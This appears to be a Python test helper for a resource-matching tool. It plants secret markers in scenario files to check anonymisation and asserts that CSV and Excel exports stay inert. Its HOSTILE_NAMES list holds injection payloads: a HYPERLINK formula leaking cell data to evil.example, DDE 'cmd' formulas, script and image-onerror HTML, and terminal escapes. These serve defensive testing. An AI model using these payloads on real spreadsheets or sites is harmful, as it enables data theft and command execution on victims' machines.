"""What an attacker puts into members' data, and checks that outputs stay inert (shared by the hostile-output tests)."""

from __future__ import annotations

import csv
from pathlib import Path
from typing import Any

import yaml

from matcher.results.export import FORMULA_START

#: Member names that try to run something downstream: spreadsheet formulas, markup, terminal escapes.
HOSTILE_NAMES = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"open me")',
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C notepad'!A0",
    "@SUM(1+1)",
    '<a href="http://evil.example/">click</a>',
    "<img src=x onerror=\"window.__pwned='img'\">",
    "<script>window.__pwned='script'</script> & co",
    "\x1b]0;owned\x07\x1b[2J plain",
]


def write_scenario(folder: Path, names: list[str] | None = None, notes: list[str] | None = None) -> Path:
    """A small scenario (one member per name; wood waste to wood chips, two pairs) written as CSV files."""
    import pandas as pd

    names = names or [f"Member {i}" for i in range(4)]
    n = len(names)
    folder.mkdir(parents=True, exist_ok=True)
    pd.DataFrame(
        {
            "member_id": [f"M{i:02d}" for i in range(n)],
            "name": names,
            "lat": [55.60 + 0.01 * i for i in range(n)],
            "lon": [12.50 + 0.01 * i for i in range(n)],
        }
    ).to_csv(folder / "members.csv", index=False)
    rows = []
    for i in range(n):
        supply = i % 2 == 0
        rows.append(
            {
                "stream_id": f"S{i:02d}",
                "member_id": f"M{i:02d}",
                "direction": "supply" if supply else "demand",
                "resource": "wood_waste" if supply else "wood_chips",
                "quantity": 100.0 + 10 * i,
                "unit": "t",
                "notes": (notes or names)[i % len(notes or names)],
            }
        )
    pd.DataFrame(rows).to_csv(folder / "streams.csv", index=False)
    (folder / "scenario.yaml").write_text(
        yaml.safe_dump(
            {"name": "Small", "currency": "EUR", "members": "members.csv", "streams": "streams.csv"},
            allow_unicode=True,
        ),
        encoding="utf-8",
    )
    return folder


#: Coordinates of the planted scenario's members (none may appear in an anonymised report).
PLANTED_COORDINATES = [55.123457, 12.765431, 55.134567, 12.776541, 55.145679, 12.787653, 55.156789, 12.798761]
#: The prefix of every planted secret.
MARK = "zqx"


def write_planted(root: Path) -> tuple[Path, Path]:
    """A base scenario and a variant with a secret (``zqx...``) in every field a member or planner writes.

    Member ids, names, sectors (a NACE class), an extra column, stream ids,
    notes, periods, another extra column, a scenario-defined resource (key,
    name, sources, notes), a catalog override's source, description, the file
    names of the tables, and the variant's added member (id, name, exact
    coordinates), added stream and inline catalog source.
    """
    import pandas as pd

    base = root / f"{MARK}folderbase"
    base.mkdir(parents=True)
    lat, lon = PLANTED_COORDINATES[0::2], PLANTED_COORDINATES[1::2]
    pd.DataFrame(
        {
            "member_id": [f"{MARK}id{i}" for i in range(4)],
            "name": [f"{MARK}name{i}" for i in range(4)],
            "sector": ["C16.10", "D35.30", "S96.09", "C11.05"],
            "lat": lat,
            "lon": lon,
            "contact": [f"{MARK}contact{i}" for i in range(4)],
        }
    ).to_csv(base / f"{MARK}members.csv", index=False)
    pd.DataFrame(
        {
            "stream_id": [f"{MARK}sid{i}" for i in range(5)],
            "member_id": [f"{MARK}id0", f"{MARK}id1", f"{MARK}id2", f"{MARK}id3", f"{MARK}id3"],
            "direction": ["supply", "demand", "supply", "demand", "supply"],
            "resource": ["wood_waste", "wood_chips", f"{MARK}resource", f"{MARK}resource", "wood_waste"],
            "quantity": [1234.567, 987.654, 321.123, 4567.891, 55.55],
            "unit": ["t"] * 5,
            "period": [f"{MARK}period"] * 5,
            "notes": [f"{MARK}note{i}" for i in range(5)],
            "owner_ref": [f"{MARK}extra{i}" for i in range(5)],
        }
    ).to_csv(base / f"{MARK}streams.csv", index=False)
    resources: dict[str, Any] = {
        "sources": {f"{MARK}srckey": f"{MARK}sourcetext of a member's quote"},
        "resources": [
            {
                "key": f"{MARK}resource",
                "name": f"{MARK}resname",
                "category": "material",
                "unit": "t",
                "transport": "truck",
                "disposal_cost": {"value": 50, "unit": "EUR/t", "source": f"{MARK}srckey", "year": 2025},
                "virgin_cost": {
                    "value": 80,
                    "unit": "EUR/t",
                    "source": f"{MARK}source2",
                    "year": 2025,
                    "note": f"{MARK}factornote",
                },
            },
            {
                "key": "wood_waste",
                "disposal_cost": {"value": 61, "unit": "EUR/t", "source": f"{MARK}src3", "year": 2025},
            },
        ],
    }
    (base / f"{MARK}resources.yaml").write_text(yaml.safe_dump(resources), encoding="utf-8")
    (base / "scenario.yaml").write_text(
        yaml.safe_dump(
            {
                "name": "Planted base",
                "description": f"{MARK}description",
                "currency": "EUR",
                "members": f"{MARK}members.csv",
                "streams": f"{MARK}streams.csv",
                "resources": f"{MARK}resources.yaml",
                "parameters": {"carbon_price": 10, "max_distance_km": 50},
            }
        ),
        encoding="utf-8",
    )
    variant = root / f"{MARK}foldervariant"
    variant.mkdir()
    (variant / "scenario.yaml").write_text(
        yaml.safe_dump(
            {
                "extends": f"../{base.name}",
                "name": "Planted variant",
                "description": f"{MARK}vardescription",
                "catalog": [
                    {
                        "key": "wood_chips",
                        "virgin_cost": {"value": 140, "unit": "EUR/t", "source": f"{MARK}catsource", "year": 2027},
                    }
                ],
                "changes": {
                    "add_members": [
                        {
                            "member_id": f"{MARK}addid",
                            "name": f"{MARK}addname",
                            "lat": 55.167891,
                            "lon": 12.809876,
                            "sector": "C10.51",
                            "contact": f"{MARK}addcontact",
                        }
                    ],
                    "add_streams": [
                        {
                            "stream_id": f"{MARK}addsid",
                            "member_id": f"{MARK}addid",
                            "direction": "demand",
                            "resource": "wood_chips",
                            "quantity": 222.22,
                            "unit": "t",
                            "period": f"{MARK}period",
                            "notes": f"{MARK}addnote",
                        }
                    ],
                    "remove_streams": [f"{MARK}sid4"],
                },
            }
        ),
        encoding="utf-8",
    )
    return base, variant


def _formula_like(value: object) -> bool:
    return isinstance(value, str) and value.startswith(FORMULA_START)


def _number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def assert_inert_csv(path: Path) -> int:
    """No text cell of a CSV file starts with a formula character (numbers may be negative); returns the cells."""
    with open(path, encoding="utf-8", newline="") as fh:
        cells = [cell for row in csv.reader(fh) for cell in row]
    bad = [c for c in cells if _formula_like(c) and not _number(c)]
    assert not bad, f"{path.name}: {bad[:3]}"
    return len(cells)


def assert_inert_xlsx(path: Path) -> int:
    """No cell of a workbook is a formula or text starting with a formula character; returns the text cells."""
    import openpyxl

    book = openpyxl.load_workbook(path)
    texts = 0
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{path.name}[{sheet.title}]{cell.coordinate}: formula {cell.value!r}"
                assert not _formula_like(cell.value), f"{path.name}[{sheet.title}]{cell.coordinate}: {cell.value!r}"
                texts += isinstance(cell.value, str)
    return texts
